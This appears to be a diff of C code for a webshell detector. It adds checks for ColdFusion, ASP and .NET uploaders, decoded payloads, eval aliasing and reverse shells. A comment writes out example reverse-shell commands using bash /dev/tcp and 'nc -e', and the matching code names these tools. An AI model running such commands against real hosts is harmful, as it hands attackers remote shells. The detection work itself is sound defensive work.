@@ -24,7 +24,10 @@ double lang_now(void) {
 }
 
 static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix,
-                            unsigned line, int raw);
+                            unsigned line);
+static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
+                         unsigned line);
+static void embedded_pages(lang_ctx *c);
 
 void lang_add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                         const char *fmt, ...) {
@@ -95,15 +98,18 @@ static const token *assign_target_at(const lang_ctx *c, size_t eq, size_t *at) {
         t = k - 1;
         break;
       }
-  while (is_op(c, t, "]") || (c->syn == SYN_PHP && is_op(c, t, "}"))) {
+  int vb_index = c->syn == SYN_VB && is_op(c, t, ")");
+  while (is_op(c, t, "]") || (c->syn == SYN_PHP && is_op(c, t, "}")) || vb_index) {
+    const char *close = vb_index ? ")" : "]", *open = vb_index ? "(" : "[";
     int depth = 0;
     for (;; t--) {
-      if (is_op(c, t, "]") || is_op(c, t, "}")) depth++;
-      else if ((is_op(c, t, "[") || is_op(c, t, "{")) && --depth == 0) break;
+      if (is_op(c, t, close) || (!vb_index && is_op(c, t, "}"))) depth++;
+      else if ((is_op(c, t, open) || (!vb_index && is_op(c, t, "{"))) && --depth == 0) break;
       if (t == 0) return NULL;
     }
     if (t == 0) return NULL;
     t--;
+    vb_index = 0; /* Session("k") = ...: one index in VB */
   }
   const token *tk = &c->st[t];
   *at = t;
@@ -142,10 +148,16 @@ static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
   if (d && d->kind == N_SINK && d->id == SK_CREATE) {
     if (strstr(d->name, "getenginebyname")) return snprintf(out, outsz, "scriptengine"), 1;
     if (i + 2 < c->nst && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR) {
-      const char *v = tok_text(c, &c->st[i + 2]);
+      size_t at = i + 2;
+      /* CFML createObject("java", "java.lang.Runtime"): the class is the second */
+      if (is_op(c, i + 3, ",") && i + 4 < c->nst && c->st[i + 4].kind == TK_STR) at = i + 4;
+      const char *v = tok_text(c, &c->st[at]);
       size_t n = 0;
       for (; v[n] && n + 1 < outsz; n++) out[n] = (char)(v[n] >= 'A' && v[n] <= 'Z' ? v[n] + 32 : v[n]);
       out[n] = '\0';
+      /* a versioned ProgID names the same class: MSScriptControl.ScriptControl.1 */
+      while (n > 2 && out[n - 1] >= '0' && out[n - 1] <= '9') n--;
+      if (n > 2 && n < strlen(out) && out[n - 1] == '.') out[n - 1] = '\0';
       return 1;
     }
     return 0;
@@ -175,22 +187,29 @@ static void chain_note(const taint *t, char *out, size_t outsz) {
 }
 
 /* A path built under the web root: __DIR__, Server.MapPath, DOCUMENT_ROOT,
- * or a variable that was. */
+ * ExpandPath, getcwd(), or a PHP variable that was. */
 static int under_web_root(lang_ctx *c, size_t a, size_t b) {
+  static const char *const marks[] = {"getrealpath", "mappath", "__dir__", "__file__", "document_root",
+                                      "expandpath", "getcurrenttemplatepath", "getbasetemplatepath"};
   for (size_t i = a; i < b; i++) {
     const token *t = &c->st[i];
     if (t->kind == TK_VAR) {
       if (c->syn != SYN_PHP || !((c->values & LV_PATH) || c->parent)) continue;
       sym *sy = lang_sym_get(c, tok_text(c, t), t->len, 0);
       if (sy && sy->webroot) return 1;
-    } else if (t->kind == TK_IDENT) {
-      const char *s = tok_text(c, t);
-      if (tok_is(c, t, TK_IDENT, "__dir__") || tok_is(c, t, TK_IDENT, "__file__") || tok_is(c, t, TK_IDENT, "getcwd") ||
-          (t->len >= 7 && (memcmp(s + t->len - 7, "mappath", 7) == 0 || (t->len >= 11 && memcmp(s + t->len - 11, "getrealpath", 11) == 0))))
-        return 1;
-    } else if (t->kind == TK_STR && t->len == 13 && strcasecmp(tok_text(c, t), "document_root") == 0) {
-      return 1;
+      continue;
     }
+    if (t->kind != TK_IDENT && t->kind != TK_STR) continue;
+    if (tok_is(c, t, TK_IDENT, "getcwd")) return 1;
+    char low[48];
+    size_t n = t->len < sizeof low - 1 ? t->len : sizeof low - 1;
+    for (size_t k = 0; k < n; k++) {
+      char ch = tok_text(c, t)[t->len - n + k];
+      low[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
+    }
+    low[n] = '\0';
+    for (size_t k = 0; k < sizeof marks / sizeof marks[0]; k++)
+      if (strstr(low, marks[k])) return 1;
   }
   return 0;
 }
@@ -198,7 +217,7 @@ static int under_web_root(lang_ctx *c, size_t a, size_t b) {
 /* A path naming a script: a literal with a script extension, or a
  * variable that holds one. */
 static int has_script_ext(lang_ctx *c, size_t a, size_t b) {
-  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx"};
+  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx", ".cfm", ".cfc"};
   for (size_t i = a; i < b; i++) {
     if (c->st[i].kind == TK_VAR) {
       if (!((c->values & LV_PATH) || c->parent)) continue;
@@ -329,8 +348,8 @@ static void run_constant_code(lang_ctx *c, const token *p, const char *display, 
   /* "?>" . $html_and_php, or a whole file: read as a page, from outside PHP */
   int page = c->syn == SYN_PHP && skip + 1 < p->len && (code[skip] == '<' || code[skip] == '?') && code[skip + 1] == (code[skip] == '<' ? '?' : '>');
   if (!(p->flags & TF_BINARY)) /* bytes that are not text are not code to read again */
-    analyze_payload(c, code + (page && code[skip] == '?' ? skip + 2 : 0), p->len - (page && code[skip] == '?' ? skip + 2 : 0),
-                    c->syn, prefix, line, !page);
+    analyze_code(c, code + (page && code[skip] == '?' ? skip + 2 : 0), p->len - (page && code[skip] == '?' ? skip + 2 : 0),
+                 c->syn, page ? "PHP" : NULL, prefix, line);
   if (c->res->ndet == before && p->nchain)
     lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line, "%s runs code hidden by %s (line %u)",
                        display, chain, line);
@@ -496,6 +515,111 @@ static void check_callback(lang_ctx *c, const name_def *d, const char *display, 
                      display, *how ? how : inner->display, line);
 }
 
+/* Execute(UnEncode(hu)) with hu a constant: a function of this page, not
+ * a built-in, turns constants into the code run; *name gets its name. */
+static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, size_t namesz) {
+  /* one call, or calls joined by concatenation: d(6) & d(10) & ... */
+  const token *f = &c->st[a];
+  int strings = 0, calls = 0;
+  for (size_t i = a; i < b;) {
+    const token *g = &c->st[i];
+    if (g->kind != TK_IDENT || !is_op(c, i + 1, "(") || strchr(tok_text(c, g), '.')) return 0;
+    const name_def *d = lang_names_lookup(tok_text(c, g), g->len, c->syn);
+    size_t close = lang_match_close(c, i + 1);
+    if (close >= b || close < i + 3) return 0;
+    if (d && d->kind == N_DECODER) { /* Execute(Unescape(x)) of a value built at run time */
+      strings++;
+    } else if (d || g->len != f->len || memcmp(tok_text(c, g), tok_text(c, f), f->len) != 0) {
+      return 0;
+    } else {
+      for (size_t k = i + 2; k < close; k++) {
+        const token *t = &c->st[k];
+        if (t->kind == TK_STR) strings += t->len >= 16;
+        else if (t->kind != TK_NUM && !is_op(c, k, ",")) return 0;
+      }
+    }
+    calls++;
+    i = close + 1;
+    if (i < b && !(is_op(c, i, "&") || is_op(c, i, "+"))) return 0;
+    if (i < b) i++;
+  }
+  if (!strings && calls < 4) return 0; /* short numeric arguments: a lookup, unless many are joined */
+  snprintf(name, namesz, "%.60s", tok_text(c, f));
+  return 1;
+}
+
+/* A constant command line that hands a shell to a remote host:
+ * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
+static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
+  for (size_t i = a; i < b; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR) continue;
+    const char *s = tok_text(c, t);
+    if (memmem(s, t->len, "/dev/tcp/", 9) || memmem(s, t->len, "/dev/udp/", 9) ||
+        ((memmem(s, t->len, "nc ", 3) || memmem(s, t->len, "ncat ", 5)) &&
+         (memmem(s, t->len, " -e /bin/", 9) || memmem(s, t->len, " -e cmd", 7))))
+      return 1;
+  }
+  return 0;
+}
+
+/* new FileStream(path, FileMode.Create): a stream opened to write. */
+static int opens_for_writing(const lang_ctx *c, size_t a, size_t b) {
+  static const char *const modes[] = {"filemode.create", "filemode.createnew", "filemode.append",
+                                      "filemode.openorcreate", "filemode.truncate", "fileaccess.write"};
+  for (size_t i = a; i < b; i++) {
+    if (c->st[i].kind != TK_IDENT) continue;
+    const char *s = tok_text(c, &c->st[i]);
+    for (size_t k = 0; k < sizeof modes / sizeof modes[0]; k++) {
+      size_t m = strlen(modes[k]);
+      if (c->st[i].len >= m && strcmp(s + c->st[i].len - m, modes[k]) == 0) return 1;
+    }
+  }
+  return 0;
+}
+
+/* The value of attribute cfattr.<name> in a CFML tag call st[a, b). */
+static int cf_attr(const lang_ctx *c, size_t a, size_t b, const char *name, size_t *s, size_t *e) {
+  char want[48];
+  snprintf(want, sizeof want, "cfattr.%s", name);
+  for (unsigned k = 1; lang_arg_span(c, a, b, k, s, e); k++)
+    if (*e > *s + 2 && tok_is(c, &c->st[*s], TK_IDENT, want) && is_op(c, *s + 1, "=")) {
+      *s += 2;
+      return 1;
+    }
+  return 0;
+}
+
+/* <cffile action="write|upload|copy|move">: the path is an attribute.  An
+ * upload keeps the client's file name unless told otherwise, so one
+ * stored under the web root with no accept= list of types is an
+ * uploader.  Returns 1 when the tag was a CFML one (checked here). */
+static int cf_tag_write(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
+  size_t s, e, vs, ve;
+  taint t = {0};
+  if (strcmp(d->name, "cffile.upload") == 0) {
+    if (!cf_attr(c, a, b, "destination", &s, &e)) return 1;
+    int accept = cf_attr(c, a, b, "accept", &vs, &ve) && ve == vs + 1 && c->st[vs].kind == TK_STR &&
+                 !strstr(tok_text(c, &c->st[vs]), "*");
+    if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
+      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "request input %s chooses where <cffile action=\"upload\"> stores a file (line %u)", t.src, line);
+    else if (!accept && under_web_root(c, s, e))
+      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "<cffile action=\"upload\"> stores any file the client sends, under its own name, in the web "
+                    "root (line %u)", line);
+    return 1;
+  }
+  if (!cf_attr(c, a, b, strcmp(d->name, "cffile.write") == 0 ? "file" : "destination", &s, &e)) return 1;
+  if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED) && ((t.flags & TA_PURE) || under_web_root(c, s, e)))
+    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                  "request input %s chooses the path %s writes (line %u)", t.src, d->display, line);
+  else if (has_script_ext(c, s, e) && cf_attr(c, a, b, "output", &vs, &ve) && lang_span_taint(c, vs, ve, &t))
+    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                  "request input %s is written by %s to a script file (line %u)", t.src, d->display, line);
+  return 1;
+}
+
 /* A dangerous call d (shown as display) at line with arguments st[a, b). */
 static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a,
                        size_t b) {
@@ -519,16 +643,38 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
       else
         lang_add_detection(c, "shellsift.lang.code-exec", "webshell", strength(&t), line,
                       "request input %s reaches %s%s%s (line %u)", t.src, display, note, called_note(&t), line);
-    } else if (d->id == SK_CODE && constant_code(c, a, b)) {
+    } else if (d->id == SK_CODE && (c->syn == SYN_PHP || c->st[a].nchain) && constant_code(c, a, b)) {
       run_constant_code(c, &c->st[a], display, line);
+    } else if (d->id == SK_CODE && c->syn != SYN_PHP && b > a && c->st[a].kind == TK_STR &&
+               !(c->st[a].flags & (TF_INTERP | TF_BINARY)) && (b == a + 1 || is_op(c, a + 1, ",")) &&
+               c->st[a].len >= 8) {
+      /* Execute "eval(request(""x""))": the string is code; read it */
+      char prefix[160];
+      snprintf(prefix, sizeof prefix, "code in a string run by %s (line %u): ", display, line);
+      analyze_payload(c, tok_text(c, &c->st[a]), c->st[a].len, c->syn, prefix, line);
     } else if (d->id == SK_CODE && lang_span_taint(c, a, b, &t) && (t.flags & (TA_PACKED | TA_REMOTE))) {
       weak_code(c, &t, display, line);
     } else if (b > a && c->st[a].kind != TK_STR) {
       want_repass_for(c, a, b);
+      if (c->syn == SYN_JSCRIPT && d->id == SK_CODE && lang_arg_span(c, a, b, 2, &s, &e) && e == s + 1 &&
+          c->st[s].kind == TK_STR && strncmp(tok_text(c, &c->st[s]), "unsafe", 6) == 0)
+        lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
+                      "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
+                      line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && runtime_decoded(c, a, b, note, sizeof note))
+        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
+                      "%s runs code that %s() builds at run time from a constant (line %u)", display, note, line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !c->dyn_line)
+        c->dyn_line = line, c->dyn_display = d->display;
     }
     break;
   case SK_CMD:
     if (d->arg && lang_arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
+    if (c->syn != SYN_PHP && reverse_shell(c, a, b)) {
+      lang_add_detection(c, "shellsift.lang.command-exec", "webshell", 80, line,
+                    "%s starts a reverse shell: the command sends a shell to a remote host (line %u)", display, line);
+      break;
+    }
     if (lang_input_taint(c, d, a, b, &t)) {
       chain_note(&t, note, sizeof note);
       if (c->syn == SYN_PHP && !(t.flags & TA_PURE) && !input_heads_command(c, a, b))
@@ -570,8 +716,12 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
         lang_add_detection(c, "shellsift.lang.dropper", "webshell", 60, line,
                            "%s writes PHP code it carries encoded in a literal to a file (line %u)", display,
                            line);
+      if (!d->arg) break; /* fwrite($handle, ...): no path here */
     }
-    if (!d->arg || !lang_arg_span(c, a, b, d->arg, &s, &e)) break;
+    if (c->syn == SYN_CFML && cf_tag_write(c, d, line, a, b)) break;
+    if (d->arg == 0) s = a, e = b; /* the object is the path: fi.CreateText() */
+    else if (!lang_arg_span(c, a, b, d->arg, &s, &e)) break;
+    if (strcmp(d->name, "filestream") == 0 && !opens_for_writing(c, a, b)) break;
     /* the whole path, the client's own name for the uploaded file, or a
      * request-chosen name under the web root */
     if (lang_input_taint(c, d, s, e, &t) && !(t.flags & (TA_CALLED | TA_TMPNAME)) &&
@@ -581,13 +731,24 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
     else if (has_script_ext(c, s, e) && (lang_input_taint(c, d, a, s, &t) || lang_input_taint(c, d, e, b, &t)))
       lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                     "request input %s is written by %s to a script file (line %u)", t.src, display, line);
+    else if (has_script_ext(c, s, e) && (c->caps.seen & CAP_FETCH))
+      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 60, line,
+                    "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)", display,
+                    c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)], line);
     break;
   case SK_SOCKET: /* IPAddress.Parse(...) is still the request's address: no TA_CALLED test */
+    if (strcmp(d->display, "java.net.URL") == 0) { /* a fetch, not a socket: an open proxy or a flooder */
+      if (lang_span_taint(c, a, b, &t) && (t.flags & TA_PURE))
+        lang_add_detection(c, "shellsift.lang.tunnel", "tunnel", 55, line,
+                      "request input %s chooses the URL the server fetches with %s (line %u)", t.src, display, line);
+      break;
+    }
     if (lang_input_taint(c, d, a, b, &t))
       lang_add_detection(c, "shellsift.lang.tunnel", "tunnel", t.flags & TA_CALLED ? 60 : 70, line,
                     "request input %s chooses where %s connects (line %u)", t.src, display, line);
     break;
   case SK_SQL:
+    if (c->syn == SYN_CFML && cf_attr(c, a, b, "sql", &s, &e)) a = s, b = e; /* <cfquery>: its body */
     for (unsigned k = 1; lang_arg_span(c, a, b, k, &s, &e); k++)
       if (lang_input_taint(c, d, s, e, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED)) {
         lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
@@ -668,7 +829,9 @@ static int is_keyword_before_call(const lang_ctx *c, const token *p) {
 }
 
 static void note_wrapper_sink(lang_ctx *c, const name_def *d) {
-  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD) && !c->wrappers[c->fn - 1].sink) {
+  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD ||
+                ((d->id == SK_SQL || d->id == SK_SOCKET) && c->syn != SYN_PHP)) &&
+      !c->wrappers[c->fn - 1].sink) {
     c->wrappers[c->fn - 1].sink = d;
     c->sink_wrappers = 1;
     c->sink_bloom |= 1ull << (((unsigned char)c->wrappers[c->fn - 1].name[0] ^ strlen(c->wrappers[c->fn - 1].name) * 7u) & 63u);
@@ -784,6 +947,9 @@ static void find_sinks(lang_ctx *c) {
       continue;
     }
     if (t->kind == TK_OP && c->fn && tok_is(c, t, TK_OP, "^")) c->wrappers[c->fn - 1].xor = 1;
+    if (c->syn == SYN_JSCRIPT && !paren && !c->alias_line && tok_is(c, t, TK_IDENT, "eval") &&
+        !(i > 0 && (is_op(c, i - 1, ".") || tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
+      c->alias_line = t->line; /* {'E': eval}, return eval: called later under another name */
     if (c->syn == SYN_PHP && paren && (t->kind == TK_VAR || is_op(c, i, "]")) &&
         !(i > 0 && (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->")))) {
       /* $f(...) or $_GET['a'](...): the callee is a variable */
@@ -877,6 +1043,7 @@ static void find_sinks(lang_ctx *c) {
         if (!set && c->saw_psi && (tok_is(c, t, TK_IDENT, "filename") || tok_is(c, t, TK_IDENT, "arguments")))
           set = lang_names_lookup("processstartinfo.arguments", 26, c->syn);
         if (set && set->kind == N_SINK && set->id == SK_CMD) {
+          note_wrapper_sink(c, set);
           size_t s, e;
           lang_arg_span(c, i + 2, c->nst, 1, &s, &e);
           snprintf(display, sizeof display, "%s", set->display);
@@ -894,6 +1061,7 @@ static void find_sinks(lang_ctx *c) {
     if (d && c->syn == SYN_PHP && paren && !table_d) note_capability(c, d, t->line, a, b);
     else if (!d && c->cap_wrappers && paren && t->kind == TK_IDENT) note_capability_call(c, tok_text(c, t), t->line, a, b);
     if (!d || d->kind != N_SINK || d->id == SK_CREATE) continue;
+    if (c->syn != SYN_PHP && d->id == SK_WRITE && d->arg == 0) a = i, b = i + 1; /* the path is the object: fi.CreateText() */
     if (c->syn != SYN_PHP) note_wrapper_sink(c, table_d ? table_d : d); /* PHP: parameters that reach it */
     if (b > c->nst) b = c->nst;
     if (b > 0 && b == c->nst && is_op(c, b - 1, "{")) b--;
@@ -1121,6 +1289,37 @@ static void record_define(lang_ctx *c) {
     }
 }
 
+/* [WebMethod] string Run(string cmd) (C#), WebMethodAttribute function
+ * Run(cmd : String) (JScript.NET): a web service method's parameters are
+ * what the SOAP or JSON request sent. */
+static void webmethod_params(lang_ctx *c, size_t name) {
+  int web = 0;
+  for (size_t i = 0; i < name && !web; i++)
+    web = c->st[i].kind == TK_IDENT && (tok_is(c, &c->st[i], TK_IDENT, "webmethod") ||
+                                        tok_is(c, &c->st[i], TK_IDENT, "webmethodattribute"));
+  if (!web || !is_op(c, name + 1, "(")) return;
+  size_t close = lang_match_close(c, name + 1);
+  for (size_t i = name + 2, last = 0; i <= close && i < c->nst; i++) {
+    if (c->st[i].kind == TK_IDENT) {
+      if (!last || !is_op(c, last + 1, ":")) last = i; /* JScript: the name before ':' */
+      continue;
+    }
+    if (!(is_op(c, i, ",") || i == close) || !last) continue;
+    const token *p = &c->st[last];
+    sym *sy = lang_sym_get(c, tok_text(c, p), p->len, 1);
+    if (sy) {
+      memset(&sy->t, 0, sizeof sy->t);
+      snprintf(sy->t.src, sizeof sy->t.src, "the web method parameter %.40s", tok_text(c, p));
+      sy->t.flags = TA_PURE;
+      sy->t.line = p->line;
+      sy->has_taint = 1;
+      sy->has_const = 0;
+      if (!c->caps.request) c->caps.request = p->line;
+    }
+    last = 0;
+  }
+}
+
 /* Function definitions: remembered so a call to one that wraps a sink or
  * an XOR loop counts as that sink or a decryption. */
 static void end_function(lang_ctx *c) {
@@ -1173,6 +1372,7 @@ static void track_functions(lang_ctx *c) {
     }
   }
   if (!name) return;
+  webmethod_params(c, (size_t)(name - c->st));
   c->in_fn = 1;
   c->fn_depth = c->depth;
   if (c->syn == SYN_PHP) c->scope = ++c->scopes;
@@ -1213,6 +1413,8 @@ static void process(lang_ctx *c) {
 #endif
   find_sinks(c);
   if (c->syn == SYN_PHP) lang_php_effects(c);
+  embedded_pages(c);
+  lang_caps_statement(c);
   record_assignment(c, eq, c->nst);
   if (c->syn == SYN_PHP && eq == c->nst) condition_assignments(c);
   record_define(c);
@@ -1249,8 +1451,14 @@ static int join(lang_ctx *c, const token *t) {
 static void on_token(tok_sink *s, token *t) {
   lang_ctx *c = (lang_ctx *)s;
   if ((int)c->syn != s->syn) {
+    /* the statement before is in the other language; ending it empties
+     * the text arena, which already holds this token's text */
+    char *keep = xmalloc(t->len + 1u);
+    memcpy(keep, s->text.buf + t->off, t->len);
     process(c);
     c->syn = (syntax)s->syn;
+    t->off = lang_arena_put(&s->text, keep, t->len);
+    free(keep);
   }
   const char *text = s->text.buf + t->off;
   if ((t->kind == TK_STR || t->kind == TK_IDENT) && t->len > c->longest) c->longest = t->len;
@@ -1271,6 +1479,12 @@ static void on_token(tok_sink *s, token *t) {
     c->pcaps->request = 1;
     if ((t->len == 7 && memcmp(text, "$_FILES", 7) == 0) || (t->len == 16 && memcmp(text, "$HTTP_POST_FILES", 16) == 0))
       lang_php_caps_note(c, PCAP_UPLOAD, 1, t->line, "$_FILES");
+  }
+  if (c->syn == SYN_VB && t->kind == TK_IDENT && c->nst && tok_is(c, t, TK_IDENT, "then") &&
+      (tok_is(c, &c->st[0], TK_IDENT, "if") || tok_is(c, &c->st[0], TK_IDENT, "elseif"))) {
+    /* If cond Then stmt on one line: what follows Then is a statement */
+    process(c);
+    return;
   }
   if (c->syn != SYN_PHP && t->kind == TK_IDENT && join(c, t)) return;
   if (t->kind == TK_IDENT && c->nst && tok_is(c, &c->st[c->nst - 1], TK_IDENT, "new")) {
@@ -1329,7 +1543,8 @@ void lang_ctx_free(lang_ctx *c) {
 
 int lang_wanted(const char *filetype) {
   return filetype && (strcmp(filetype, "PHP") == 0 || strcmp(filetype, "ASP") == 0 ||
-                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0);
+                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0 ||
+                      strcmp(filetype, "CFM") == 0);
 }
 
 static void reset_file(lang_ctx *c) {
@@ -1349,6 +1564,9 @@ static void reset_file(lang_ctx *c) {
   c->sink_bloom = 0;
   memset(&c->pcapsrec, 0, sizeof c->pcapsrec);
   c->pcaps = &c->pcapsrec;
+  memset(&c->caps, 0, sizeof c->caps);
+  c->dyn_line = c->alias_line = 0;
+  c->dyn_display = NULL;
 }
 
 static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw,
@@ -1363,6 +1581,7 @@ static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char
   c->syn = syn;
   c->sink.syn = (int)syn;
   if (syn == SYN_PHP) lang_lex_php(&c->sink, buf, len, raw);
+  else if (syn == SYN_CFML) lang_lex_cfml(&c->sink, buf, len, raw);
   else if (raw && syn == SYN_VB) lang_lex_vb(&c->sink, buf, len, 0, 1);
   else if (raw) lang_lex_clike(&c->sink, buf, len, syn, 0, 1);
   else lang_lex_page(&c->sink, buf, len, filetype);
@@ -1429,12 +1648,16 @@ static lang_ctx *child(lang_ctx *c, const char *prefix, unsigned line) {
 
 static void free_child(lang_ctx *c, lang_ctx *k) {
   c->builders += k->builders;
+  lang_caps_merge(&c->caps, &k->caps);
   free((char *)k->prefix);
   lang_ctx_free(k);
 }
 
-static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line,
-                            int raw) {
+/* Code found inside the file (a decoded payload; with page set, a whole
+ * server page kept in a string, or PHP read from outside <?php) analysed
+ * one level deeper, in the scope of the code that holds it. */
+static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
+                         unsigned line) {
   if (c->level + 1 >= c->lim.max_depth) {
     c->budget->exhausted = 1;
     if (!c->budget->why) c->budget->why = "decode depth limit";
@@ -1444,13 +1667,13 @@ static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn,
   /* the payload lives in c's statement arena, which k never touches */
   unsigned char *copy = xmalloc(n ? n : 1);
   memcpy(copy, code, n);
-  run(k, copy, n, raw ? NULL : "PHP", raw, syn);
+  run(k, copy, n, page, page == NULL, syn);
   free(copy);
   free_child(c, k);
 }
 
 void lang_read_payload(lang_ctx *c, const char *code, size_t n, int raw, const char *prefix, unsigned line) {
-  analyze_payload(c, code, n, c->syn, prefix, line, raw);
+  analyze_code(c, code, n, c->syn, raw ? NULL : "PHP", prefix, line);
 }
 
 const name_def *lang_probe_callable(lang_ctx *c, const char *params, size_t pn, const char *body, size_t bn,
@@ -1487,6 +1710,63 @@ const name_def *lang_probe_callable(lang_ctx *c, const char *params, size_t pn, 
   return d;
 }
 
+static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
+  analyze_code(c, code, n, syn, NULL, prefix, line);
+}
+
+/* Request.Item[, request.getParameter(, Request.Form( at the start of a
+ * decoded literal: code, not data. */
+static int hides_request(const char *s, size_t n) {
+  if (n < 10 || n > 256 || strncasecmp(s, "request", 7) != 0) return 0;
+  return s[7] == '[' || s[7] == '(' || (s[7] == '.' && n > 9);
+}
+
+/* A JSP or ASP page kept in a string literal (a dropper writes it out
+ * later): read it as the page it is. */
+static void embedded_pages(lang_ctx *c) {
+  static const char *const kinds[] = {[SYN_JAVA] = "JSP", [SYN_CSHARP] = "ASPX", [SYN_VB] = "ASP",
+                                      [SYN_JSCRIPT] = "ASP"};
+  if (c->level || c->syn == SYN_PHP || c->syn == SYN_CFML) return;
+  for (size_t i = 0; i < c->nst; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR || (t->flags & TF_BINARY)) continue;
+    const char *s = tok_text(c, t);
+    if (t->nchain && hides_request(s, t->len)) {
+      char chain[96], quote[40];
+      lang_chain_text(t->chain, t->nchain, NULL, chain, sizeof chain);
+      snprintf(quote, sizeof quote, "%.*s", (int)(t->len < 32 ? t->len : 32), s);
+      for (char *q = quote; *q; q++) *q = (*q < 0x20 || *q == 0x7f) ? '.' : *q;
+      lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 60, t->line,
+                    "a literal decoded by %s hides code that reads the request (\"%s\") (line %u)", chain, quote,
+                    t->line);
+      continue;
+    }
+    if (t->len < 24 || !memmem(s, t->len, "<%", 2) || !(memmem(s, t->len, "equest", 6))) continue;
+    char prefix[96];
+    snprintf(prefix, sizeof prefix, "a server page kept in a string (line %u): ", t->line);
+    analyze_code(c, s, t->len, c->syn, kinds[c->syn], prefix, t->line);
+  }
+}
+
+/* What only the whole page shows: code run from a value built at run
+ * time in a page that fetches code over HTTP or carries a long encoded
+ * literal, and eval passed around as a value in a page reading requests. */
+static void page_verdicts(lang_ctx *c) {
+  int others = c->res->ndet > 0;
+  if (c->dyn_line && !others && (c->caps.seen & CAP_FETCH))
+    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 65, c->dyn_line,
+                  "%s runs code built at run time (line %u) in a page that fetches content over HTTP (%s, line %u)",
+                  c->dyn_display, c->dyn_line, c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)]);
+  else if (c->dyn_line && !others && c->longest >= 1024)
+    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, c->dyn_line,
+                  "%s runs code built at run time (line %u) in a page carrying a %zu-byte literal", c->dyn_display,
+                  c->dyn_line, c->longest);
+  if (c->alias_line && c->caps.request && !others)
+    lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 65, c->alias_line,
+                  "eval is taken as a value (line %u) and called under another name in a page that reads request "
+                  "input (line %u)", c->alias_line, c->caps.request);
+}
+
 void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, lang_result *out) {
   memset(out, 0, sizeof *out);
   decode_budget budget = {.remaining = c->lim.max_decoded,
@@ -1496,23 +1776,41 @@ void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char 
   c->res = out;
   c->level = 0;
   c->prefix = NULL;
+  /* an ASP page IIS decodes before running it is read decoded too */
+  unsigned char *unpacked = NULL;
+  size_t unpacked_len = 0;
+  if (filetype && (strcmp(filetype, "ASP") == 0 || strcmp(filetype, "ASPX") == 0) &&
+      lang_asp_unpack(buf, len, &unpacked, &unpacked_len))
+    buf = unpacked, len = unpacked_len;
+  /* an ASP.NET page saved as .asp still has its server controls */
+  int controls = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0) &&
+                 lang_aspx_controls(c, buf, len);
+  if (controls) c->caps.request = 1;
+  int cfml = filetype && strcmp(filetype, "CFM") == 0; /* rare enough to read whole */
 #ifdef SS_LANG_TRACE
   int pf = 1; /* the trace build analyses every file: what would the prefilter lose? */
 #else
-  int pf = lang_wanted(filetype) && lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0);
